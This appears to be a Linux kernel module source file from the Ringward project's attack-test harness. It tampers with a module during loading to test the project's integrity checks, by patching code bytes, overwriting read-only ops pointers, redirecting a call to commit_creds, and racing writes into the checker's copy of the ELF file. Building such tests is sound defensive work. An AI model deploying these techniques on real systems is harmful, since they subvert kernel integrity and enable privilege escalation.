// SPDX-License-Identifier: GPL-2.0-or-later
// Copyright (C) 2026 The Ringward authors
// Changes a module, or the agent's copy of its file, while it is being loaded: before anybody approves it.

#include <linux/errno.h>
#include <linux/hrtimer.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/string.h>
#include <linux/version.h>

#include "rwattack.h"

#define VICTIM    "dummy"
#define PERIOD_NS 20000
#define STORES    2000 /* in all; those before the file is protected change nothing */

static char kind[16];
static u8 *copy; /* a byte of the agent's copy of the file */
static int stores;
static struct hrtimer timer;

static u8 *text_of(const struct module *mod, unsigned int *size)
{
#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 4, 0)
	*size = mod->core_layout.text_size;
	return mod->core_layout.base;
#else
	*size = mod->mem[MOD_TEXT].size;
	return mod->mem[MOD_TEXT].base;
#endif
}

static void put(void *at, const void *bytes, size_t size)
{
	bool was = set_writable((unsigned long)at, true);

	memcpy(at, bytes, size);
	if (!was)
		set_writable((unsigned long)at, false);
}

/* The first call of the kernel leads to commit_creds(). */
static void redirect(u8 *text, unsigned int size)
{
	unsigned long to = symbol("commit_creds");
	unsigned int i;

	for (i = 0; i + 5 < size; i++) {
		unsigned long target = (unsigned long)text + i + 5 + *(s32 *)(text + i + 1);
		s32 displacement = (s32)(to - ((unsigned long)text + i + 5));

		if (text[i] == 0xe8 && target >= symbol("_stext") && target < symbol("_etext")) {
			put(text + i + 1, &displacement, sizeof(displacement));
			return;
		}
	}
}

/* An interrupt comes while the hypervisor compares, too. */
static enum hrtimer_restart store_again(struct hrtimer *t)
{
	int err = 0;

	/* Once the agent has freed the page, it may be anybody's, and read-only as well. */
	if (memcmp(copy, "\177ELF", 4) != 0)
		return HRTIMER_NORESTART;
	asm volatile("1: movb %[byte], (%[p])\n2:\n" RESUME_AT_2
		     : [err] "+r"(err)
		     : [byte] "q"(READ_ONCE(*copy)), [p] "r"(copy)
		     : "memory");
	if (++stores >= STORES)
		return HRTIMER_NORESTART;
	hrtimer_forward_now(t, ns_to_ktime(PERIOD_NS));
	return HRTIMER_RESTART;
}

/* The agent's copy: its pages are in a list; the kernel's own copy, and the page cache, differ in that. */
static u8 *find_copy(void)
{
	const unsigned long *max = (const unsigned long *)symbol("max_pfn");
	unsigned long pfn;

	for (pfn = max ? *max - 1 : 0; pfn > 0; pfn--) {
		struct page *page = pfn_valid(pfn) ? pfn_to_page(pfn) : NULL;
		u8 *at = page ? page_address(page) : NULL;

		if (at && page_count(page) == 1 && !PageReserved(page) && !PageSlab(page) && !page->mapping &&
		    (unsigned long)page->lru.next >= PAGE_OFFSET && !memcmp(at, "\177ELF\2\1\1", 7) &&
		    at[16] == 1)
			return at;
	}
	return NULL;
}

static int tamper(struct kprobe *probe, struct pt_regs *regs)
{
	const struct module *mod = (const struct module *)regs->di;
	unsigned int size;
	u8 *text = text_of(mod, &size), byte;
	unsigned long ops;

	if (strcmp(mod->name, VICTIM) != 0)
		return 0;
	if (strcmp(kind, "text") == 0) {
		byte = text[32] ^ 1;
		put(text + 32, &byte, 1);
	} else if (strcmp(kind, "rodata") == 0) {
		ops = symbol(VICTIM ":dummy_netdev_ops");
		if (ops)
			put((void *)ops, &text, sizeof(text));
	} else if (strcmp(kind, "target") == 0) {
		redirect(text, size);
	} else if (strcmp(kind, "file") == 0) {
		hrtimer_cancel(&timer);
		copy = find_copy();
		stores = 0;
		if (copy)
			hrtimer_start(&timer, ns_to_ktime(PERIOD_NS), HRTIMER_MODE_REL_HARD);
	}
	return 0;
}

static struct kprobe probe = { .symbol_name = "klp_module_coming", .pre_handler = tamper };

/* From now on, or no more with "off", each load of the module meets the attack. */
int cmd_tamper(int argc, char **argv)
{
	static bool armed;
	int ret = 0;

	if (argc != 2)
		return -EINVAL;
	strscpy(kind, argv[1], sizeof(kind));
	if (strcmp(kind, "off") == 0) {
		if (armed) {
			unregister_kprobe(&probe);
			hrtimer_cancel(&timer);
		}
		armed = false;
		say("tamper: %d stores\n", stores);
		return 0;
	}
	stores = 0;
	if (!armed) {
		hrtimer_init(&timer, CLOCK_MONOTONIC, HRTIMER_MODE_REL_HARD);
		timer.function = store_again;
		ret = register_kprobe(&probe);
	}
	armed = ret == 0;
	say("tamper %s: %d\n", kind, ret);
	return 0;
}
